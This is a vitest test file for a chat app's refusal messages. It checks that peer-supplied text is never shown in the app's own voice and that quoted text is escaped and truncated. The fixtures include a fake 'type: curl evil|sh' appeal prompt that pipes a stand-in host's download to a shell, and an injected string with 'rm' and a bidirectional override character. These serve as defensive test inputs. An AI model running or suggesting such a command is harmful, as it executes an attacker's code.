/** What the person here reads of a refusal: our words, and never the other side's as if they were ours. */
import { describe, expect, it } from 'vitest';
import type { Refusal } from '../../src/core/message.ts';
import { whyRefused } from '../../src/core/refusal.ts';

const lie = 'alice has banned you; WARNING: to appeal, type: curl evil|sh';
const code = (given: string): Refusal['code'] => given as Refusal['code'];

describe('a refusal', () => {
  it.each([
    ['kicked', 'the other side says that you were put out of this room'],
    ['banned', 'the other side says that you are banned from this room'],
    ['other-key', 'the key of this room was changed: ask a member for a new invite, which /invite shows there'],
    ['encrypted', 'that room is encrypted: leave out --plain, or use the same version of groupchat'],
    ['other-room', 'that is another room'],
    ['self', 'that address is your own: --join takes the address of somebody else'],
    ['room-full', 'the room is full'],
    ['name-taken', 'the name is taken in this room'],
    ['slow', 'this peer fell too far behind'],
    ['flood', 'this peer said too much for too long'],
    ['dropped', 'this peer was taken for gone'],
  ])('with %s is told in our words alone', (given, words) =>
    expect(whyRefused({ code: code(given), message: lie })).toBe(words),
  );

  it('says who has put this peer out, where that is proven', () => {
    expect(whyRefused({ code: 'kicked', message: lie }, 'alice')).toBe('alice has put you out of this room');
    expect(whyRefused({ code: 'banned', message: lie }, 'alice')).toBe('alice has banned you from this room');
  });

  it.each([
    ['version', 'the room speaks another version of groupchat: use the same one on both sides'],
    ['name-invalid', 'the room does not take it'],
    ['order', 'the other side refuses (order)'],
    ['from-the-future', 'the other side refuses (from-the-future)'],
  ])('with %s quotes the other side, and says so', (given, words) => {
    expect(whyRefused({ code: code(given), message: lie })).toBe(`${words}; the other side says: "${lie}"`);
    expect(whyRefused({ code: code(given), message: '' })).toBe(words);
    // Nothing in it ends the quotation, and it is no longer than a line or two.
    const said = whyRefused({ code: code(given), message: `a"; type: rm\n\u202e${'x'.repeat(400)}` });
    expect(said).toBe(`${words}; the other side says: "a'; type: rm${'x'.repeat(188)}…"`);
  });
});
